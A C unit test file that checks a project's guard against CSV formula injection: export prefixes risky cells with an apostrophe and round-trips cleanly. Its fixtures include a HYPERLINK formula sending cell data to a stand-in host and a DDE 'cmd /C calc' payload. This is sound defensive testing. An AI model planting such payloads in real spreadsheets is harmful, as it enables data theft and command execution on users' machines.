/*
 * CSV cells a spreadsheet would run as formulas (OWASP "CSV injection"):
 * every text cell sxsh writes that starts with = + - @, a tab, a CR or an
 * apostrophe gets an apostrophe before it (csvio_put_field), numbers are
 * written as they are, and the import drops exactly one leading apostrophe
 * of a text column, so export → import → export gives the same bytes and
 * the stored text is unchanged.  Every expected output below is worked out
 * by hand from the rule and RFC 4180 quoting.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "db/db.h"
#include "fixture.h"
#include "model/io/csvio.h"
#include "model/registry/refdata.h"
#include "testutil.h"
#include "util/buf.h"

/* The four names of the issue, as stored. */
#define HYPERLINK "=HYPERLINK(\"http://x/?\"&A1,\"click\")"
#define CMD	  "+cmd|' /C calc'!A0"
#define SUM	  "@SUM(1)"
#define MINUS	  "-10+20"

/* csvio_put_field(s) as a malloc'd string. */
static char *
put(const char *s)
{
	char *out = NULL;
	size_t n = 0;
	FILE *f = open_memstream(&out, &n);
	assert_non_null(f);
	csvio_put_field(f, s);
	fclose(f);
	return out;
}

static void
test_put_field(void **state)
{
	(void)state;
	static const struct {
		const char *in, *out;
	} c[] = {
	    /* A quote and a comma: quoted, quotes doubled, the apostrophe inside. */
	    {HYPERLINK, "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\""},
	    {CMD, "'+cmd|' /C calc'!A0"},
	    {SUM, "'@SUM(1)"},
	    {MINUS, "'-10+20"},
	    /* One more apostrophe before one already there, so import gives it back. */
	    {"'Tám", "''Tám"},
	    {"''", "'''"},
	    /* A leading tab no longer leads: the apostrophe does, no quotes needed. */
	    {"\t=1", "'\t=1"},
	    /* A CR is quoted as before, the apostrophe inside the quotes. */
	    {"\r=1", "\"'\r=1\""},
	    /* A trailing space still needs quotes. */
	    {"-x ", "\"'-x \""},
	    /* Not at the start: nothing to guard. */
	    {"a=b", "a=b"},
	    {"Cơ sở 1-2", "Cơ sở 1-2"},
	    {" -x", "\" -x\""},
	    {"", ""},
	};
	for (size_t i = 0; i < sizeof(c) / sizeof(c[0]); i++) {
		char *got = put(c[i].in);
		if (strcmp(got, c[i].out) != 0)
			fail_msg("case %zu: got [%s], want [%s]", i, got, c[i].out);
		free(got);
	}
}

/* Asserts the text a literal query gives on database name. */
static void
stored(const char *name, const char *sql, const char *want)
{
	char *got = tu_query_text(name, sql);
	assert_string_equal(got, want);
	free(got);
}

/*
 * A file as a person writes it: the dangerous names raw (import keeps
 * them), a facility code starting with '-', and a name starting with an
 * apostrophe written doubled (import drops one).  lon -0.25 is a number.
 */
static const char fac_in[] =
    FX_FH "G1,,+cmd|' /C calc'!A0,1020,rach-gia,-10+20,10.5,-0.25,private,small,,,,active\n"
	  "-F9,,\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",1020,rach-gia,@SUM(1),,,"
	  "private,small,,,,active\n"
	  "G2,,''Hai' và Ba,1020,rach-gia,,,,private,small,,,,active\n";

/* By code, bytes: '-' (0x2d) before 'G'. */
static const char fac_out[] =
    FX_FH "'-F9,,\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",1020,rach-gia,'@SUM(1),,,"
	  "private,small,,,,active\n"
	  "G1,,'+cmd|' /C calc'!A0,1020,rach-gia,'-10+20,10.5,-0.25,private,small,,,,active\n"
	  "G2,,''Hai' và Ba,1020,rach-gia,,,,private,small,,,,active\n";

static const char rep_in[] =
    FX_RH "-F9,2023,draft,,,,,material,\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",,,1,t,\n"
	  "-F9,2023,draft,,,,,material,+cmd|' /C calc'!A0,,,2,t,\n"
	  "-F9,2023,draft,,,,,material,@SUM(1),,,3,kg,\n"
	  "-F9,2023,draft,,,,,material,-10+20,,,4,t,\n"
	  "-F9,2023,draft,,,,,material,''Tám,,,5,t,\n";

/* Materials by name, bytes: ' (0x27) + (0x2b) - (0x2d) = (0x3d) @ (0x40). */
static const char rep_out[] =
    FX_RH "'-F9,2023,draft,,,,,material,''Tám,,,5,t,\n"
	  "'-F9,2023,draft,,,,,material,'+cmd|' /C calc'!A0,,,2,t,\n"
	  "'-F9,2023,draft,,,,,material,'-10+20,,,4,t,\n"
	  "'-F9,2023,draft,,,,,material,\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",,,1,"
	  "t,\n"
	  "'-F9,2023,draft,,,,,material,'@SUM(1),,,3,kg,\n";

/* The stored names of database name, as the files above mean them. */
static void
assert_stored(const char *name)
{
	stored(name, "SELECT name FROM facility WHERE code = '-F9'", HYPERLINK);
	stored(name, "SELECT address FROM facility WHERE code = '-F9'", SUM);
	stored(name, "SELECT name FROM facility WHERE code = 'G1'", CMD);
	stored(name, "SELECT address FROM facility WHERE code = 'G1'", MINUS);
	stored(name, "SELECT name FROM facility WHERE code = 'G2'", "'Hai' và Ba");
	static const struct {
		const char *qty, *name;
	} m[] = {{"1", HYPERLINK}, {"2", CMD}, {"3", SUM}, {"4", MINUS}, {"5", "'Tám"}};
	for (size_t i = 0; i < sizeof(m) / sizeof(m[0]); i++) {
		char sql[160];
		snprintf(sql, sizeof(sql), "SELECT name FROM report_material WHERE quantity = %s",
			 m[i].qty);
		stored(name, sql, m[i].name);
	}
}

static void
test_export_import_export(void **state)
{
	(void)state;
	struct db *a = fx_db_new("guard_a.db", NULL);
	fx_import(a, CSVIO_FACILITIES, "f.csv", fac_in);
	fx_import(a, CSVIO_REPORTS, "r.csv", rep_in);
	assert_stored("guard_a.db");
	char *f1 = fx_export(a, CSVIO_FACILITIES, 0);
	char *r1 = fx_export(a, CSVIO_REPORTS, 0);
	assert_string_equal(f1, fac_out);
	assert_string_equal(r1, rep_out);
	db_close(a);

	/* The export imports into a fresh database with the same names and
	 * exports again byte for byte. */
	struct db *b = fx_db_new("guard_b.db", NULL);
	fx_import(b, CSVIO_FACILITIES, "f1.csv", f1);
	fx_import(b, CSVIO_REPORTS, "r1.csv", r1);
	assert_stored("guard_b.db");
	fx_assert_export(b, CSVIO_FACILITIES, f1);
	fx_assert_export(b, CSVIO_REPORTS, r1);
	db_close(b);
	free(f1);
	free(r1);
}

/*
 * A number column keeps its apostrophe (only text loses one): "'5" is not
 * a quantity, so a guard cannot turn into a number by accident.
 */
static void
test_apostrophe_only_text(void **state)
{
	(void)state;
	struct db *db = fx_db_new("guard_c.db", NULL);
	fx_import(db, CSVIO_FACILITIES, "f.csv",
		  FX_FH "K1,,Kho,1020,rach-gia,,,,private,small,,,,active\n");
	struct buf errs;
	buf_init(&errs, 1 << 16);
	FILE *f =
	    fopen(tu_write_file("q.csv", FX_RH "K1,2023,draft,,,,,material,muối,,,'5,t,\n"), "rb");
	assert_non_null(f);
	assert_int_equal(
	    csvio_import(db, CSVIO_REPORTS, f, "q.csv", NULL, csvio_err_buf, &errs, NULL), 1);
	fclose(f);
	assert_string_equal(buf_str(&errs),
			    "q.csv:2: quantity: số lượng không phải là số (dấu thập phân là '.') / "
			    "quantity is not a number (decimal point '.'), got ''5'\n");
	buf_free(&errs);
	db_close(db);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_put_field),
	    cmocka_unit_test(test_export_import_export),
	    cmocka_unit_test(test_apostrophe_only_text),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
